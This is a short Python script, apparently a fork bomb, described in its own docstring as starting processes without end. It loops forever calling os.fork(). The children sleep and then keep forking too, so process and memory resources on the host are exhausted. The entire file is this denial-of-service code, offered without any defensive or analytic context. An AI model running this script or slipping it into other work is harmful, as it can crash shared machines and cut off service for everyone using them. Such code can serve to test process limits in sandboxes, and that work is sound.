"""Starts processes without end."""

import os
import time

while True:
    if os.fork() == 0:
        time.sleep(600)
